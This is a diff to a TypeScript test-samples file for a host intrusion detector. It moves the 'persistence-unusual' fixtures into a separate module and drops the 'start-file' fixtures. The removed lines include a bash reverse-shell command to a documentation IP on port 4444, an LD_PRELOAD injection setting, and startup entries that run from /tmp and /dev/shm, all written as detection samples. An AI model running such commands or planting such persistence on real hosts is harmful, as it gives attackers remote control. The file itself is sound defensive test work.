@@ -26,10 +26,10 @@ import {
   skill,
   skillFile,
   socket,
-  startFile,
   staying,
   write,
 } from "./records.ts";
+import { persistenceSamples } from "./persistence-samples.ts";
 
 interface Samples {
   readonly hits: readonly Changed[];
@@ -56,6 +56,7 @@ function entries(value: object): { readonly config: Reading<ConfigEntry> } {
 const program: SkillFile = { path: "bin/tool", bytes: 9, sha256: "ab", executable: false };
 
 export const samples: Readonly<Record<string, Samples>> = {
+  ...persistenceSamples,
   "process-unusual": {
     hits: [
       { readings: { processes: read([process({ exe: "/tmp/x", exeDeleted: true })]) } },
@@ -320,33 +321,6 @@ export const samples: Readonly<Record<string, Samples>> = {
     ],
     misses: [{ readings: { operations: read([operation(), operation({ kind: "update", at: before })]) } }],
   },
-  "persistence-unusual": {
-    hits: [
-      { readings: { persistence: read([staying({ runs: ["/bin/bash -i >& /dev/tcp/203.0.113.9/4444"] })]) } },
-      { readings: { persistence: read([staying({ odd: ["control characters hide part of the line"] })]) } },
-      { readings: { persistence: read([staying({ mechanism: "shell-startup", odd: ["is odd"] })]) } },
-      { readings: { persistence: read([staying({ runs: ["/dev/shm/x"] })]) } },
-      { readings: { persistence: read([staying({ sets: ["Environment=LD_PRELOAD=/usr/lib/x.so"] })]) } },
-      { readings: { persistence: read([staying({ kind: "unreadable" })]) } },
-      {
-        readings: {
-          persistence: read([staying({ file: { bytes: 1, mode: 0o644, uid: 0, modifiedAt: during } })]),
-        },
-      },
-    ],
-    misses: [
-      {
-        readings: {
-          persistence: read([
-            staying(),
-            // Judged by a mark of its own.
-            staying({ mechanism: "systemd-user", runs: ["/dev/shm/x"] }),
-            staying({ package: "cron", file: { bytes: 1, mode: 0o644, uid: 0, modifiedAt: during } }),
-          ]),
-        },
-      },
-    ],
-  },
   "session-orphaned": {
     hits: [{ readings: { sessions: read([session({ status: "orphaned" })]) } }],
     misses: [{ readings: { sessions: read([session({ status: "active" })]) } }],
@@ -484,15 +458,6 @@ export const samples: Readonly<Record<string, Samples>> = {
         known: { keys: new Set(["SHA256:abc"]) },
         readings: { authorizedKeys: read([loginKey({ modifiedAt: during })]) },
       },
-    ],
-  },
-  "start-file": {
-    hits: [
-      { readings: { systemdUser: read([startFile({ runs: ["ExecStart=/tmp/x"] })]) } },
-      { readings: { shellStartup: read([startFile({ kind: "shell", runs: [], modifiedAt: during })]) } },
-    ],
-    misses: [
-      { readings: { systemdUser: read([startFile({ runs: ["ExecStart=/usr/bin/x --tmp=/var/x"] })]) } },
     ],
   },
   "sessions-in-window": {
